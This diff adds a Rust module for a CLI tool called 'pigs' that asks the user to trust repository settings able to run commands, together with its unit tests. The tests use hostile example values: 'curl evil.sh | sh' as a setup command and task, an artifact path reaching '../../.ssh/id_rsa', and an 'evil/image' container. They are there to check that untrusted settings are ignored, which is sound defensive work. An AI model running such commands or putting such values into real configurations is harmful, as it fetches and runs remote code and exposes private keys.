@@ -0,0 +1,284 @@
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+use anyhow::Result;
+use colored::Colorize;
+use once_cell::sync::Lazy;
+use serde_json::{Map, Value};
+use sha2::{Digest, Sha256};
+
+use crate::input::smart_confirm;
+use crate::state::PigsState;
+
+/// Repo-level settings that make pigs run commands on this machine.
+pub const PRIVILEGED_KEYS: &[&str] = &[
+    "agent",
+    "shell",
+    "editor",
+    "setup_commands",
+    "tasks",
+    "artifacts",
+    "container_image",
+    "post_create",
+    "pre_open",
+    "pre_sync",
+    "post_sync",
+    "pre_delete",
+    "post_delete",
+];
+
+static PROMPTS_DISABLED: AtomicBool = AtomicBool::new(false);
+
+/// Decisions already made in this process, keyed by settings file. Keeps a
+/// command that reads the same file twice from asking (or warning) twice.
+static DECISIONS: Lazy<Mutex<HashMap<PathBuf, (String, bool)>>> =
+    Lazy::new(|| Mutex::new(HashMap::new()));
+
+/// Never ask about untrusted repo settings in this process; they are ignored
+/// instead. Servers call this since nobody is watching their terminal.
+pub fn disable_prompts() {
+    PROMPTS_DISABLED.store(true, Ordering::Relaxed);
+}
+
+/// Whether the privileged settings in a repo-level settings file may be
+/// applied. Files without any are always trusted. Otherwise the user is asked
+/// the first time, and the answer holds until those settings change.
+pub fn is_trusted(settings_path: &Path, settings: &Value) -> Result<bool> {
+    let Some(privileged) = privileged_settings(settings) else {
+        return Ok(true);
+    };
+    let fingerprint = fingerprint(&privileged);
+    let path = canonical(settings_path);
+
+    if let Some((seen, trusted)) = lock_decisions().get(&path)
+        && *seen == fingerprint
+    {
+        return Ok(*trusted);
+    }
+
+    let state = PigsState::load()?;
+    let trusted = if state.trusted_repos.get(&path_key(&path)) == Some(&fingerprint) {
+        true
+    } else if PROMPTS_DISABLED.load(Ordering::Relaxed) {
+        warn_untrusted(&path, &privileged);
+        false
+    } else {
+        describe(&path, &privileged);
+        let trusted = smart_confirm("Trust these settings for this repository?", false)?;
+        if trusted {
+            remember(&path, Some(fingerprint.clone()))?;
+        } else {
+            warn_untrusted(&path, &privileged);
+        }
+        trusted
+    };
+
+    lock_decisions().insert(path, (fingerprint, trusted));
+    Ok(trusted)
+}
+
+/// Trust the privileged settings currently in `settings_path`, or forget a
+/// previous decision when `trusted` is false. Returns the settings that were
+/// affected (empty when the file sets none).
+pub fn set_trusted(settings_path: &Path, settings: &Value, trusted: bool) -> Result<Vec<String>> {
+    let path = canonical(settings_path);
+    let privileged = privileged_settings(settings);
+    let keys = privileged
+        .as_ref()
+        .map(|map| map.keys().cloned().collect())
+        .unwrap_or_default();
+    let fingerprint = match (&privileged, trusted) {
+        (Some(privileged), true) => Some(fingerprint(privileged)),
+        _ => None,
+    };
+    remember(&path, fingerprint)?;
+    lock_decisions().remove(&path);
+    Ok(keys)
+}
+
+/// Drop privileged keys that are unset or empty. `None` means the file sets none.
+fn privileged_settings(settings: &Value) -> Option<Map<String, Value>> {
+    let privileged: Map<String, Value> = PRIVILEGED_KEYS
+        .iter()
+        .filter_map(|key| {
+            let value = settings.get(*key)?;
+            let empty = match value {
+                Value::Null => true,
+                Value::String(text) => text.trim().is_empty(),
+                Value::Array(items) => items.is_empty(),
+                Value::Object(entries) => entries.is_empty(),
+                _ => false,
+            };
+            (!empty).then(|| (key.to_string(), value.clone()))
+        })
+        .collect();
+    (!privileged.is_empty()).then_some(privileged)
+}
+
+fn remember(path: &Path, fingerprint: Option<String>) -> Result<()> {
+    let mut state = PigsState::load()?;
+    let key = path_key(path);
+    match fingerprint {
+        Some(fingerprint) => {
+            state.trusted_repos.insert(key, fingerprint);
+        }
+        None => {
+            if state.trusted_repos.remove(&key).is_none() {
+                return Ok(());
+            }
+        }
+    }
+    state.save()
+}
+
+fn describe(path: &Path, privileged: &Map<String, Value>) {
+    eprintln!(
+        "{} {} wants to change how pigs runs commands:",
+        "🔒".yellow(),
+        path.display()
+    );
+    for (key, value) in privileged {
+        eprintln!("   {}: {}", key.cyan(), value);
+    }
+}
+
+fn warn_untrusted(path: &Path, privileged: &Map<String, Value>) {
+    let keys: Vec<&str> = privileged.keys().map(String::as_str).collect();
+    eprintln!(
+        "{} Ignoring {} from untrusted {} (run {} in the repository to allow)",
+        "⚠️".yellow(),
+        keys.join(", "),
+        path.display(),
+        "pigs trust".cyan()
+    );
+}
+
+fn canonical(path: &Path) -> PathBuf {
+    path.canonicalize().unwrap_or_else(|_| path.to_path_buf())
+}
+
+fn path_key(path: &Path) -> String {
+    hash(path.to_string_lossy().as_bytes())
+}
+
+fn fingerprint(privileged: &Map<String, Value>) -> String {
+    hash(Value::Object(privileged.clone()).to_string().as_bytes())
+}
+
+/// SHA-256 in hex. The repository's author writes the settings being hashed,
+/// so the hash must resist crafted collisions with settings already trusted.
+fn hash(bytes: &[u8]) -> String {
+    Sha256::digest(bytes)
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect()
+}
+
+fn lock_decisions() -> std::sync::MutexGuard<'static, HashMap<PathBuf, (String, bool)>> {
+    DECISIONS
+        .lock()
+        .unwrap_or_else(|poisoned| poisoned.into_inner())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::state::RepoConfig;
+    use serde_json::json;
+
+    #[test]
+    fn files_without_privileged_settings_need_no_trust() {
+        let settings = json!({ "copy_files": [".env"], "agent": null, "setup_commands": [] });
+        assert!(privileged_settings(&settings).is_none());
+    }
+
+    #[test]
+    fn trust_is_remembered_until_the_settings_change() {
+        let config = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        let settings_path = repo.path().join("settings.json");
+        std::fs::write(&settings_path, "{}").unwrap();
+        let original = json!({ "setup_commands": ["npm install"] });
+        let changed = json!({ "setup_commands": ["curl evil.sh | sh"] });
+
+        // The test harness's stdin would otherwise be read as a piped answer
+        disable_prompts();
+        temp_env::with_var("PIGS_CONFIG_DIR", Some(config.path()), || {
+            assert!(!is_trusted(&settings_path, &original).unwrap());
+
+            set_trusted(&settings_path, &original, true).unwrap();
+            assert!(is_trusted(&settings_path, &original).unwrap());
+            assert!(!is_trusted(&settings_path, &changed).unwrap());
+
+            set_trusted(&settings_path, &original, false).unwrap();
+            assert!(!is_trusted(&settings_path, &original).unwrap());
+            assert!(PigsState::load().unwrap().trusted_repos.is_empty());
+        });
+    }
+
+    #[test]
+    fn changing_any_privileged_setting_revokes_trust() {
+        let config = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        let settings_path = repo.path().join("settings.json");
+        std::fs::write(&settings_path, "{}").unwrap();
+        let trusted: Map<String, Value> = PRIVILEGED_KEYS
+            .iter()
+            .map(|key| (key.to_string(), json!([format!("{key} value")])))
+            .collect();
+        let trusted = Value::Object(trusted);
+
+        disable_prompts();
+        temp_env::with_var("PIGS_CONFIG_DIR", Some(config.path()), || {
+            set_trusted(&settings_path, &trusted, true).unwrap();
+            assert!(is_trusted(&settings_path, &trusted).unwrap());
+            let stored = PigsState::load().unwrap().trusted_repos;
+            assert!(stored.values().all(|fingerprint| fingerprint.len() == 64));
+
+            for key in PRIVILEGED_KEYS {
+                let mut changed = trusted.clone();
+                changed[*key] = json!([format!("{key} value"), "curl evil.sh | sh"]);
+                assert!(
+                    !is_trusted(&settings_path, &changed).unwrap(),
+                    "changing {key} kept trust"
+                );
+            }
+            // Dropping one is a change too
+            let mut fewer = trusted.clone();
+            fewer.as_object_mut().unwrap().remove("pre_open");
+            assert!(!is_trusted(&settings_path, &fewer).unwrap());
+        });
+    }
+
+    #[test]
+    fn untrusted_repo_config_drops_tasks_artifacts_and_image() {
+        let config = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        let settings = json!({
+            "copy_files": [".env"],
+            "tasks": { "test": "curl evil.sh | sh" },
+            "artifacts": ["../../.ssh/id_rsa"],
+            "container_image": "evil/image"
+        });
+        std::fs::create_dir_all(repo.path().join(".pigs")).unwrap();
+        let settings_path = repo.path().join(".pigs/settings.json");
+        std::fs::write(&settings_path, settings.to_string()).unwrap();
+
+        disable_prompts();
+        temp_env::with_var("PIGS_CONFIG_DIR", Some(config.path()), || {
+            let untrusted = RepoConfig::load(repo.path()).unwrap();
+            assert_eq!(untrusted.copy_files, [".env"]);
+            assert!(untrusted.tasks.is_empty());
+            assert!(untrusted.artifacts.is_empty());
+            assert!(untrusted.container_image.is_none());
+
+            set_trusted(&settings_path, &settings, true).unwrap();
+            let trusted = RepoConfig::load(repo.path()).unwrap();
+            assert_eq!(trusted.tasks["test"], "curl evil.sh | sh");
+            assert_eq!(trusted.artifacts, ["../../.ssh/id_rsa"]);
+            assert_eq!(trusted.container_image.as_deref(), Some("evil/image"));
+        });
+    }
+}